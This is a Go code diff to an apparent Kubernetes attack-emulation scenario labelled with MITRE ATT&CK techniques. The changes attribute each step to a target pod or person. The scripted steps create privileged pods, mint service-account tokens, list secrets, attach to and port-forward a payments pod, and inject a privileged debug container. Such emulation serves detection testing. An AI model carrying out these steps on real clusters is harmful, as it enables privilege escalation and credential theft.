@@ -30,9 +30,10 @@ func Insider(s *stage.Stage) {
 	})
 	s.Attack("T1610", "Privilege Escalation: Privileged container", "runs a privileged pod in the team's namespace").
 		As(thief).Do(func(a *stage.Act) { a.MustApply(privilegedPod("payments", "perf-test"), "create", "-f", "-") })
+	s.Wrote(thief, "payments", "Pod/perf-test", "Pod/api-debug")
 	shell := s.PodNamed("payments", "perf-test")
 	s.Attack("T1611", "Execution: Exec into container", "works on the node from there").
-		As(thief).Do(func(a *stage.Act) { a.Must("-n", "payments", "exec", shell.Name, "--", "sh", "-c", "id; hostname; ps") })
+		As(thief).On(shell).Do(func(a *stage.Act) { a.Must("-n", "payments", "exec", shell.Name, "--", "sh", "-c", "id; hostname; ps") })
 
 	s.Attack("T1610", "Lateral Movement: Container service account", "runs a pod with another account of the namespace").
 		As(thief).Do(func(a *stage.Act) {
@@ -42,7 +43,7 @@ func Insider(s *stage.Stage) {
 	s.Attack("T1552.007", "Credential Access: Access container service account", "has a token made for that account").
 		As(thief).Do(func(a *stage.Act) { a.Must("-n", "payments", "create", "token", "payments-api", "--duration=12h") })
 	s.Attack("T1613", "Discovery: Access Kubernetes API server", "looks around with that pod's own account").
-		As(debug.ServiceAccount()).Do(func(a *stage.Act) {
+		As(debug.ServiceAccount().By(thief.Person)).Do(func(a *stage.Act) {
 		a.Kubectl("auth", "can-i", "--list")
 		a.Kubectl("get", "pods", "-A")
 		a.Kubectl("get", "secrets", "-n", "payments")
@@ -53,13 +54,13 @@ func Insider(s *stage.Stage) {
 	})
 	ledger := s.Pod("payments", "app=ledger")
 	s.Attack("T1609", "Execution: Exec into container", "attaches to "+ledger.String()).
-		As(thief).Do(func(a *stage.Act) { a.Brief(2*time.Second, "-n", "payments", "attach", ledger.Name) })
+		As(thief).On(ledger).Do(func(a *stage.Act) { a.Brief(2*time.Second, "-n", "payments", "attach", ledger.Name) })
 	s.Attack("T1572", "Lateral Movement: Cluster internal networking", "forwards a port of "+ledger.String()).
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(ledger).Do(func(a *stage.Act) {
 		a.Brief(2*time.Second, "-n", "payments", "port-forward", ledger.Name, "18081:8080")
 	})
 	s.Attack("T1609", "Execution: New container", "puts a debug container into "+ledger.String()).
-		As(thief).Do(func(a *stage.Act) {
+		As(thief).On(ledger).Do(func(a *stage.Act) {
 		a.Apply(fmt.Sprintf(`{"spec":{"ephemeralContainers":[{"name":"dbg","image":%q,"imagePullPolicy":"IfNotPresent","targetContainerName":"ledger","command":["sleep","600"],"securityContext":{"privileged":true}}]}}`, imageNetshoot),
 			"-n", "payments", "patch", "pod", ledger.Name, "--subresource=ephemeralcontainers", "--type=strategic", "--patch-file=/dev/stdin")
 	})
